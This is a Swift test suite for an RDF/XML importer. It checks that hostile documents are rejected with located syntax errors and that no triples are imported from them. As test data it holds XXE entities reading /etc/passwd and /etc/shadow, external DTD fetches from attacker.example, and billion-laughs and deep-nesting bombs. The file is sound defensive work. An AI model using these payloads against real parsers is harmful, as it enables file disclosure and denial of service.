import CLibXML2
import Foundation
import Testing
@testable import KGImport

/// Hostile documents: each must end in a clean `ImportError.syntax` with a location, and a
/// caller that keeps triples only when the whole parse succeeds imports nothing.
@Suite struct RDFXMLSecurityTests {
    static let rdfNamespaces = #"xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/""#

    /// What an importer does: all triples, or the error and nothing.
    struct Outcome {
        var imported: [RDFTriple] = []
        var emittedBeforeError = 0
        var error: ImportError?
    }

    static func importAll(_ document: String, limits: RDFXMLReader.Limits = .init()) -> Outcome {
        var reader = RDFXMLReader(bytes: Array(document.utf8), name: "hostile.rdf",
                                  baseIRI: "http://example.org/base", limits: limits)
        var collected: [RDFTriple] = []
        var outcome = Outcome()
        do {
            try reader.read { collected.append($0) }
            outcome.imported = collected
        } catch let error as ImportError {
            outcome.error = error
            outcome.emittedBeforeError = collected.count
        } catch {
            Issue.record("unexpected error type: \(error)")
        }
        return outcome
    }

    static func document(doctype: String, body: String) -> String {
        """
        <?xml version="1.0"?>
        \(doctype)
        <rdf:RDF \(rdfNamespaces)>
          <rdf:Description rdf:about="http://example.org/a"><ex:p>\(body)</ex:p></rdf:Description>
        </rdf:RDF>
        """
    }

    struct HostileCase: Sendable, CustomStringConvertible {
        var name: String
        var document: String
        var message: String
        var line: Int
        var description: String { name }
    }

    static let cases: [HostileCase] = [
        HostileCase(
            name: "external entity pointing at /etc/passwd",
            document: document(doctype: #"<!DOCTYPE rdf:RDF [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>"#, body: "&xxe;"),
            message: "external entities are not supported: entity 'xxe' refers to 'file:///etc/passwd', which is never loaded",
            line: 2),
        HostileCase(
            name: "external DTD on the network",
            document: document(doctype: #"<!DOCTYPE rdf:RDF SYSTEM "http://attacker.example/evil.dtd">"#, body: "x"),
            message: "external DTDs are not supported: the DOCTYPE refers to 'http://attacker.example/evil.dtd', which is never loaded",
            line: 2),
        HostileCase(
            name: "parameter entity fetching a DTD from the network",
            document: document(doctype: #"<!DOCTYPE rdf:RDF [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>"#,
                               body: "x"),
            message: "parameter entities are not supported (the DTD declares '%remote;')",
            line: 2),
        HostileCase(
            name: "billion laughs",
            document: document(doctype: """
                <!DOCTYPE rdf:RDF [
                 <!ENTITY lol "lol">
                 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
                 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
                 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
                 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
                 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
                 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
                 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
                 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
                 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
                ]>
                """, body: "&lol9;"),
            message: "entity 'lol1' contains '&' or '<'; only plain-text entities are supported "
                + "(no references, no markup), so expansion cannot nest as in 'billion laughs'",
            line: 4),
        HostileCase(
            name: "unparsed external entity",
            document: document(doctype: #"<!DOCTYPE rdf:RDF [ <!NOTATION gif SYSTEM "gif"> <!ENTITY pic SYSTEM "file:///etc/shadow" NDATA gif> ]>"#,
                               body: "x"),
            message: "external entities are not supported: entity 'pic' refers to 'file:///etc/shadow', which is never loaded",
            line: 2),
    ]

    @Test(arguments: cases)
    func hostileDocumentIsRejectedBeforeAnyTriple(_ hostile: HostileCase) throws {
        let outcome = Self.importAll(hostile.document)
        let error = try #require(outcome.error)
        guard case .syntax(let location, let message) = error else {
            Issue.record("expected a syntax error, got \(error)")
            return
        }
        #expect(message == hostile.message)
        #expect(location.file == "hostile.rdf")
        #expect(location.line == hostile.line)
        #expect(location.column >= 1)
        #expect(outcome.emittedBeforeError == 0)
        #expect(outcome.imported.isEmpty)
    }

    @Test func tenThousandDeepNestingStopsAtTheDepthLimit() throws {
        let open = String(repeating: "<rdf:Description><ex:p>", count: 5_000)
        let close = String(repeating: "</ex:p></rdf:Description>", count: 5_000)
        let outcome = Self.importAll("<rdf:RDF \(Self.rdfNamespaces)>\(open)\(close)</rdf:RDF>")
        let error = try #require(outcome.error)
        guard case .syntax(let location, let message) = error else { Issue.record("\(error)"); return }
        #expect(message == "elements nest deeper than the limit of 256 levels")
        #expect(location.line == 1)
        // The 257th element is the <ex:p> of the 128th pair: after <rdf:RDF …>, 127 pairs of
        // 23 characters and one <rdf:Description>.
        #expect(location.column == 1 + (Self.rdfNamespaces.count + 10) + 127 * 23 + 17)
        #expect(outcome.imported.isEmpty)
    }

    @Test func depthLimitIsConfigurable() throws {
        let nested = "<rdf:RDF \(Self.rdfNamespaces)><rdf:Description><ex:p><rdf:Description><ex:q>v</ex:q>"
            + "</rdf:Description></ex:p></rdf:Description></rdf:RDF>"
        #expect(Self.importAll(nested, limits: .init(maxDepth: 5)).imported.count == 2)
        let error = try #require(Self.importAll(nested, limits: .init(maxDepth: 4)).error)
        #expect(error.description == "hostile.rdf:1:\(Self.rdfNamespaces.count + 51): elements nest deeper than the limit of 4 levels")
    }

    @Test func literalSizeIsBounded() throws {
        let big = String(repeating: "a", count: 5_000)
        let limits = RDFXMLReader.Limits(maxLiteralBytes: 4_096)
        let plain = Self.importAll(Self.document(doctype: "", body: big), limits: limits)
        #expect(plain.error?.description.hasSuffix("literal is longer than the limit of 4096 bytes") == true)
        let xml = Self.document(doctype: "", body: "").replacingOccurrences(
            of: "<ex:p></ex:p>", with: #"<ex:p rdf:parseType="Literal"><b>\#(big)</b></ex:p>"#)
        let literal = Self.importAll(xml, limits: limits)
        #expect(literal.error?.description.hasSuffix("XML literal is longer than the limit of 4096 bytes") == true)
        #expect(plain.imported.isEmpty && literal.imported.isEmpty)
        #expect(Self.importAll(Self.document(doctype: "", body: big)).imported.count == 1)
    }

    @Test func quadraticEntityExpansionIsBounded() throws {
        let value = String(repeating: "x", count: 1_000)
        let body = String(repeating: "&big;", count: 200)
        let document = Self.document(doctype: "<!DOCTYPE rdf:RDF [ <!ENTITY big \"\(value)\"> ]>", body: body)
        let outcome = Self.importAll(document, limits: .init(maxEntityExpansionBytes: 100_000))
        let error = try #require(outcome.error)
        #expect(error.description.contains("entity expansion exceeds the limit of 100000 bytes"))
        #expect(outcome.imported.isEmpty)
        let allowed = Self.importAll(document, limits: .init(maxEntityExpansionBytes: 1_000_000))
        #expect(allowed.error == nil)
        #expect(allowed.imported.first?.object == .literal(String(repeating: value, count: 200)))
    }

    @Test func entityExpansionInAttributeValuesIsBounded() throws {
        let value = String(repeating: "x", count: 1_000)
        let attributes = (0..<200).map { " ex:a\($0)=\"&big;\"" }.joined()
        let document = """
            <!DOCTYPE rdf:RDF [ <!ENTITY big "\(value)"> ]>
            <rdf:RDF \(Self.rdfNamespaces)><rdf:Description\(attributes)/></rdf:RDF>
            """
        let outcome = Self.importAll(document, limits: .init(maxEntityExpansionBytes: 100_000))
        #expect(outcome.error?.description.contains("entity expansion exceeds the limit of 100000 bytes") == true)
        #expect(outcome.imported.isEmpty)
        let allowed = Self.importAll(document, limits: .init(maxEntityExpansionBytes: 200_000))
        #expect(allowed.error == nil)
        #expect(allowed.imported.count == 200)
    }

    @Test func plainTextEntitiesExpandOnceInAttributesTextAndLiterals() throws {
        let document = """
            <!DOCTYPE rdf:RDF [ <!ENTITY ex "http://example.org/"> <!ENTITY who "Zoe"> ]>
            <rdf:RDF \(Self.rdfNamespaces)>
              <rdf:Description rdf:about="&ex;a" ex:q="&who; &amp; &#38; &ex;">
                <ex:p>&who; and &who;</ex:p>
                <ex:r rdf:resource="&ex;c"/>
                <ex:t rdf:parseType="Literal"><b title="&who;">&who;</b></ex:t>
              </rdf:Description>
            </rdf:RDF>
            """
        let outcome = Self.importAll(document)
        #expect(outcome.error == nil)
        let a = RDFTerm.iri("http://example.org/a")
        #expect(Set(outcome.imported) == [
            RDFTriple(a, "http://example.org/q", .literal("Zoe & & http://example.org/")),
            RDFTriple(a, "http://example.org/p", .literal("Zoe and Zoe")),
            RDFTriple(a, "http://example.org/r", .iri("http://example.org/c")),
            RDFTriple(a, "http://example.org/t", .literal(#"<b title="Zoe">Zoe</b>"#, datatype: RDF.xmlLiteral)),
        ])
    }

    @Test func undeclaredEntityIsAnError() throws {
        let outcome = Self.importAll(Self.document(doctype: "", body: "&nope;"))
        let error = try #require(outcome.error)
        #expect(error.description == "hostile.rdf:4:65: malformed XML: Entity 'nope' not defined")
    }

    @Test func externalEntityLoaderRefusesEveryRequest() {
        RDFXMLParser.installRefusingEntityLoader
        // Whatever path inside libxml2 asks for a file or URL gets nothing.
        #expect(xmlLoadExternalEntity("/etc/passwd", nil, nil) == nil)
        #expect(xmlLoadExternalEntity("file:///etc/hostname", nil, nil) == nil)
        #expect(xmlLoadExternalEntity("http://attacker.example/x.dtd", nil, nil) == nil)
    }
}
